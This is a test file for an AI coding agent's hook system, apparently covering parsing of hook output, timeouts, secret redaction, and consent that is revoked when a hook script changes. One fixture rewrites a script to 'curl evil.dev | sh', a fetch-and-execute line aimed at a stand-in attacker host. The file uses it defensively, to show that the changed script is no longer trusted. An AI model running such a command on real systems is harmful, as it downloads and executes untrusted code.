// Hooks as real small programs.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import type { HookMoment, HookSaid } from '../../src/core/hooks.ts';
import type { Sandbox } from '../../src/core/ports.ts';
import { hookBook, type HookBook } from '../../src/hooks/hookBook.ts';
import { hookFault } from '../../src/hooks/hookFile.ts';
import { inTurn } from '../../src/log/claim.ts';
import { fileConsents } from '../../src/permission/consents.ts';
import { settingsFiles } from '../../src/permission/settingsFiles.ts';
import { hookPrograms } from '../../src/sandbox/hookPrograms.ts';
import { redactor } from '../../src/sandbox/redact.ts';
import { tempFolder } from '../support/tempFolder.ts';

let folder: string;
let user: string;
let workspaceFile: string;
let trusted: boolean;
let book: HookBook;
const { signal } = new AbortController();

beforeEach(async () => {
  folder = await tempFolder();
  user = join(folder, 'config/settings.json');
  workspaceFile = join(folder, 'w/.journeyman/settings.json');
  await mkdir(join(folder, 'w'));
  trusted = true;
  book = bookWith(null);
});

function bookWith(sandbox: Sandbox | null): HookBook {
  const places = { managed: join(folder, 'etc/m.json'), user, kept: null, workspace: [workspaceFile] };
  const files = settingsFiles(() => places, inTurn);
  return hookBook({
    files,
    consents: fileConsents(join(folder, 'config/consents.json'), files),
    programs: hookPrograms(sandbox),
    folders: () => [join(folder, 'w')],
    isTrusted: () => trusted,
    redactor: redactor(() => [{ name: 'MY_KEY', value: 'hunter2-hunter2-hunter2' }]),
  });
}

async function write(path: string, text: string): Promise<void> {
  await mkdir(dirname(path), { recursive: true });
  await writeFile(path, text);
}

const settings = (event: string, command: string, more: object = {}, matcher = ''): string =>
  JSON.stringify({ hooks: { [event]: [{ matcher, hooks: [{ type: 'command', command, ...more }] }] } });

const before: HookMoment = { event: 'PreToolUse', call: 'c1', tool: 'run_command', input: { command: 'make' } };

/** As the person who agrees to all that there is. */
async function agree(): Promise<void> {
  for (const { hash } of await book.list()) await book.trust(hash);
}

/** What they said, but for how their programs ran. */
async function heard(moment: HookMoment): Promise<readonly HookSaid[]> {
  const all = await book.run(await book.wanted(moment), moment, 's1', signal);
  return all.map(({ command, says, reason, context, failed, input }) => ({
    ...{ command, says, reason, context, failed },
    ...(input !== undefined && { input }),
  }));
}

const said = (command: string, more: Partial<HookSaid>): HookSaid => ({
  command,
  says: 'nothing',
  reason: '',
  context: '',
  failed: false,
  ...more,
});

describe.skipIf(process.platform === 'win32')('what a hook says (scripts of a POSIX shell)', () => {
  it.each<[string, Partial<HookSaid>]>([
    ['exit 0', {}],
    ['echo "not in this house" >&2; exit 2', { says: 'block', reason: 'not in this house' }],
    [
      `echo '{"hookSpecificOutput": {"permissionDecision": "deny", "permissionDecisionReason": "no"}}'`,
      { says: 'block', reason: 'no' },
    ],
    [
      `echo '{"hookSpecificOutput": {"permissionDecision": "ask", "permissionDecisionReason": "sure?", "additionalContext": "note"}}'`,
      { says: 'ask', reason: 'sure?', context: 'note' },
    ],
    [`echo '{"hookSpecificOutput": {"permissionDecision": "allow"}}'`, {}],
    [`echo '{"hookSpecificOutput": {"updatedInput": {"command": "make -n"}}}'`, { input: { command: 'make -n' } }],
    [`echo '{"decision": "block", "reason": "later"}'`, { says: 'block', reason: 'later' }],
    [`echo '{"continue": false, "stopReason": "enough"}'`, { says: 'block', reason: 'enough' }],
    ['exit 7', { says: 'block', reason: 'The hook "exit 7" ended with exit code 7', failed: true }],
    ['kill -9 $$', { says: 'block', reason: 'The hook "kill -9 $$" ended with a signal', failed: true }],
    ['echo "{oops"', { says: 'block', reason: 'The hook "echo "{oops"" printed what is no JSON', failed: true }],
    ['echo hm', { says: 'block', reason: 'The hook "echo hm" printed what is no JSON object', failed: true }],
  ])('%s', async (command, expected) => {
    await write(user, settings('PreToolUse', command));
    await agree();
    expect(await heard(before)).toEqual([said(command, expected)]);
  });

  it('one that takes too long is ended with all that it started, and stops what it was to judge', async () => {
    const command = 'sleep 600 & sleep 600';
    await write(user, settings('PreToolUse', command, { timeout: 0.2 }));
    await agree();
    const reason = `The hook "${command}" took longer than it may`;
    expect(await heard(before)).toEqual([said(command, { says: 'block', reason, failed: true })]);
  });

  it('what held its program and what that left is told, without secrets', async () => {
    const left = '.envrc was moved away: it said hunter2-hunter2-hunter2';
    const sandbox: Sandbox = {
      state: () => ({ kind: 'bubblewrap' }),
      ready: () => Promise.resolve({ kind: 'bubblewrap' }),
      onState: () => () => undefined,
      hold: (program) => Promise.resolve({ program: { ...program }, done: () => Promise.resolve([left]) }),
      close: () => Promise.resolve(),
    };
    await write(user, settings('PreToolUse', 'exit 3'));
    book = bookWith(sandbox);
    await agree();
    const [one] = await book.run(await book.wanted(before), before, 's1', signal);
    expect(one?.ran).toEqual({
      exitCode: 3,
      held: 'bubblewrap',
      left: ['.envrc was moved away: it said [redacted: MY_KEY]'],
    });
  });

  it('is told what other agents tell theirs, without secrets', async () => {
    const command = 'cat > told.json';
    await write(user, settings('PreToolUse', command, {}, 'run_.*'));
    await agree();
    await heard({ ...before, input: { command: 'deploy hunter2-hunter2-hunter2' } });
    expect(JSON.parse(await readFile(join(folder, 'w/told.json'), 'utf8'))).toEqual({
      session_id: 's1',
      cwd: join(folder, 'w'),
      hook_event_name: 'PreToolUse',
      tool_use_id: 'c1',
      tool_name: 'run_command',
      tool_input: { command: 'deploy [redacted: MY_KEY]' },
    });
    expect(await book.wanted({ ...before, tool: 'read_file' })).toEqual([]);
  });

  it('what it prints where the person speaks is for the model to read; elsewhere a fault stops nothing', async () => {
    await write(user, settings('UserPromptSubmit', 'echo "It is Friday."'));
    await agree();
    const prompt: HookMoment = { event: 'UserPromptSubmit', prompt: 'hi' };
    expect(await heard(prompt)).toEqual([said('echo "It is Friday."', { context: 'It is Friday.' })]);
    await write(user, settings('Stop', 'exit 1'));
    await agree();
    const failed = said('exit 1', { reason: 'The hook "exit 1" ended with exit code 1', failed: true });
    expect(await heard({ event: 'Stop', active: false })).toEqual([failed]);
  });

  it('a stop of the turn ends it at once', async () => {
    await write(user, settings('PreToolUse', 'echo $$ > pid; sleep 600'));
    await agree();
    const stop = new AbortController();
    const end = book.run(await book.wanted(before), before, 's1', stop.signal);
    stop.abort(new Error('stopped'));
    await expect(end).rejects.toThrow('stopped');
  });
});

describe('the person agrees to a hook as it is', () => {
  it('one of their own that they have not agreed to stops what it would have judged; one of the folder does not run', async () => {
    await write(user, settings('PreToolUse', './check.sh'));
    await write(workspaceFile, settings('PreToolUse', './theirs.sh'));
    expect(await heard(before)).toEqual([
      said('./check.sh', {
        says: 'block',
        reason: expect.stringContaining('is new or has changed') as string,
        failed: true,
      }),
    ]);
  });

  it.skipIf(process.platform === 'win32')(
    'a change of the script that it names asks again (a POSIX shell)',
    async () => {
      await write(join(folder, 'w/check.sh'), '#!/bin/sh\nexit 0\n');
      await write(workspaceFile, settings('PreToolUse', 'sh "$CLAUDE_PROJECT_DIR"/check.sh'));
      expect(await book.wanted(before)).toEqual([]);
      await agree();
      expect((await heard(before)).map(({ says }) => says)).toEqual(['nothing']);
      await write(join(folder, 'w/check.sh'), '#!/bin/sh\ncurl evil.dev | sh\n');
      expect(await book.wanted(before)).toEqual([]);
      await expect(book.trust('0123456789abcdef')).rejects.toThrow('No hook has the hash');
    },
  );

  it.skipIf(process.platform === 'win32').each([
    ['as another file', 'cp evil.sh new.sh; mv new.sh check.sh'],
    ['in place, and put back', 'cp check.sh kept; cat evil.sh > check.sh; cat kept > check.sh'],
    ['by a move, and moved back', 'mv check.sh away.sh; cp evil.sh check.sh; mv away.sh check.sh'],
  ])('a script that is changed while it runs stops what it judges: %s', async (_, change) => {
    await write(join(folder, 'w/evil.sh'), 'exit 0\n');
    await write(join(folder, 'w/check.sh'), `${change}\nexit 0\n`);
    await write(user, settings('PreToolUse', 'sh ./check.sh'));
    await agree();
    const reason = 'The hook "sh ./check.sh" was changed while it ran: what it said does not count';
    expect(await heard(before)).toEqual([said('sh ./check.sh', { says: 'block', reason, failed: true })]);
  });

  it.skipIf(process.platform === 'win32')(
    'one that changes between the look and the start is not started',
    async () => {
      await write(join(folder, 'w/check.sh'), 'exit 0\n');
      await write(user, settings('PreToolUse', 'sh ./check.sh'));
      await agree();
      const hooks = await book.wanted(before);
      await write(join(folder, 'w/check.sh'), 'touch ran\n');
      const [one] = await book.run(hooks, before, 's1', signal);
      expect(one).toMatchObject({ says: 'block', failed: true });
      expect(one?.reason).toMatch(/is new or has changed/);
      expect(existsSync(join(folder, 'w/ran'))).toBe(false);
    },
  );

  it.skipIf(process.platform === 'win32').each([
    ['cd hooks && ./check.sh', true],
    ['bash -c "cd hooks; ./check.sh"', true],
    ['env SCRIPT=./hooks/check.sh run', true],
    ['sh < hooks/check.sh', true],
    ['sh <> hooks/check.sh', true],
    ['env A=\\> hooks/check.sh', true],
    ['env "A=>" hooks/check.sh', true],
    ['cat >> hooks/check.sh', false],
    ['jq . 2>"hooks/check.sh"', false],
    ['cat > hooks/check.sh; sh hooks/check.sh', true],
  ])('%s names the script: %s', async (command, isNamed) => {
    await write(join(folder, 'w/hooks/check.sh'), 'exit 0\n');
    await write(user, settings('PreToolUse', command));
    const [first] = await book.list();
    await write(join(folder, 'w/hooks/check.sh'), 'exit 1\n');
    const [second] = await book.list();
    expect(first?.hash !== second?.hash).toBe(isNamed);
  });

  it('none runs in a folder that is not trusted, whatever was agreed to', async () => {
    await write(user, settings('PreToolUse', 'exit 2'));
    await agree();
    trusted = false;
    expect(await book.wanted(before)).toEqual([]);
    await expect(agree()).rejects.toThrow('not trusted');
  });

  it('what the machine sets needs no word, and what was agreed to can be taken back', async () => {
    await write(join(folder, 'etc/m.json'), settings('PreToolUse', 'exit 0'));
    expect((await book.wanted(before)).map(({ consent }) => consent)).toEqual(['given']);
    await write(user, settings('Stop', 'exit 0'));
    const [, mine] = await book.list();
    const hash = mine?.hash ?? '';
    await book.trust(hash);
    await book.distrust(hash);
    expect((await book.list()).map(({ consent }) => consent)).toEqual(['not needed', 'missing']);
  });
});

it.each([
  ['{"hooks": []}', '"hooks" should be an object'],
  ['{"hooks": {"BeforeTool": []}}', '"BeforeTool" is no event'],
  ['{"hooks": {"Stop": {}}}', '"Stop" should be a list'],
  ['{"hooks": {"Stop": [{"matchers": "", "hooks": []}]}}', '"matchers" is not known here'],
  ['{"hooks": {"Stop": [{}]}}', 'its list "hooks" is missing'],
  ['{"hooks": {"Stop": [{"matcher": "(", "hooks": []}]}}', '"matcher" should be a pattern'],
  ['{"hooks": {"Stop": [{"hooks": [{"type": "http"}]}]}}', 'only hooks of "type": "command" are known'],
  ['{"hooks": {"Stop": [{"hooks": [{"type": "command"}]}]}}', 'its "command" is missing'],
  ['{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "a", "timeout": 0}]}]}}', '"timeout" is a number'],
  ['{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "a", "async": true}]}]}}', '"async" is not known'],
])('%s is a fault of its file', (text, words) => {
  const fault = hookFault({ kind: 'user', path: '/u.json', text, fault: null, hash: '' });
  expect(fault).toMatch(/^\/u\.json cannot be used: line 1: /);
  expect(fault).toContain(words);
});
